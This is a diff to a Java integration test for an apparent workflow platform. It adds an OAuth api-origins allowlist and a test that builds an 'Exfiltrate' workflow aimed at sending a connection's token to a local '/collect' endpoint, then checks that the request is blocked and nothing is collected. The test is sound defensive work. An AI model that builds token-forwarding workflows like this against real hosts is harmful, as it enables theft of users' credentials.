@@ -39,6 +39,7 @@ import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
+import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.concurrent.TimeUnit;
 import java.util.concurrent.atomic.AtomicInteger;
 import java.util.function.Predicate;
@@ -62,6 +63,8 @@ class ConnectionsApiIT extends ApiOverHttp {
     private static volatile String strictEmail = "strict@provider.test";
     private static volatile int strictExpiresIn = 3600;
     private static final AtomicInteger strictRefreshes = new AtomicInteger();
+    /** The Authorization headers that reached a host outside every provider's api-origins. */
+    private static final List<String> collected = new CopyOnWriteArrayList<>();
     private static final HttpClient BROWSER = HttpClient.newBuilder().followRedirects(HttpClient.Redirect.NEVER).build();
 
     @Deployment(testable = false)
@@ -74,6 +77,11 @@ class ConnectionsApiIT extends ApiOverHttp {
             throw new UncheckedIOException(e);
         }
         strictTokens.createContext("/token", ConnectionsApiIT::strictToken);
+        strictTokens.createContext("/collect", exchange -> {
+            collected.add(String.valueOf(exchange.getRequestHeaders().getFirst("Authorization")));
+            exchange.sendResponseHeaders(204, -1);
+            exchange.close();
+        });
         strictTokens.start();
         return Deployments.withConfig(Deployments.product(),
                 "flowline.oauth.providers=local,other,strict",
@@ -85,6 +93,7 @@ class ConnectionsApiIT extends ApiOverHttp {
                 "flowline.oauth.strict.client-id=flowline-test",
                 "flowline.oauth.strict.client-secret=test client/secret",
                 "flowline.oauth.strict.client-auth=basic",
+                "flowline.oauth.strict.api-origins=" + origin(provider.userInfoUrl(ISSUER).toString()),
                 "flowline.oauth.local.authorize-url=" + provider.authorizationEndpointUrl(ISSUER),
                 "flowline.oauth.local.token-url=" + provider.tokenEndpointUrl(ISSUER),
                 "flowline.oauth.local.userinfo-url=" + provider.userInfoUrl(ISSUER),
@@ -394,6 +403,36 @@ class ConnectionsApiIT extends ApiOverHttp {
             assertThat(run.getString("status")).as(run.toString()).isEqualTo("SUCCEEDED");
         }
         assertThat(strictRefreshes.get()).as("refreshes of the one token").isEqualTo(1);
+    }
+
+    /**
+     * A workflow naming a connection but a URL outside its provider's api-origins (here the test's own server on
+     * 127.0.0.1, while the provider's API is at localhost) fails without sending anything: the token never leaves
+     * for a host its owner did not connect it to.
+     */
+    @Test
+    void aConnectionsTokenIsSentOnlyToItsProvidersApiOrigins() {
+        String token = api.signupVerifiedAndLogin(newEmail(), PASSWORD);
+        String workspace = personalWorkspace(token);
+        String connectionId = callbackOf("local", token).json().getString("id");
+        String collector = "http://127.0.0.1:" + strictTokens.getAddress().getPort() + "/collect";
+        String body = """
+                {"name":"Exfiltrate","definition":{"nodes":[
+                  {"id":"start","type":"trigger.manual","params":{}},
+                  {"id":"send","type":"http.request","params":{"url":"%s","connectionId":"%s"}}],
+                 "edges":[{"from":"start","to":"send"}]}}""".formatted(collector, connectionId);
+        Answer created = api.post("workspaces/" + workspace + "/workflows", body, token);
+        assertThat(created.status()).as(created.toString()).isEqualTo(201);
+        collected.clear();
+
+        JsonObject run = runToEnd(token, workspace, created.json().getString("id"));
+
+        assertThat(run.getString("status")).as(run.toString()).isEqualTo("DEAD_LETTERED");
+        assertThat(run.getString("error")).isEqualTo("connection " + connectionId + " may not be sent to http://127.0.0.1:"
+                + strictTokens.getAddress().getPort() + ": that origin is not in flowline.oauth.local.api-origins;"
+                + " the request was not sent");
+        assertThat(run.getJsonArray("steps")).as("not retried").hasSize(2);
+        assertThat(collected).isEmpty();
     }
 
     @Test
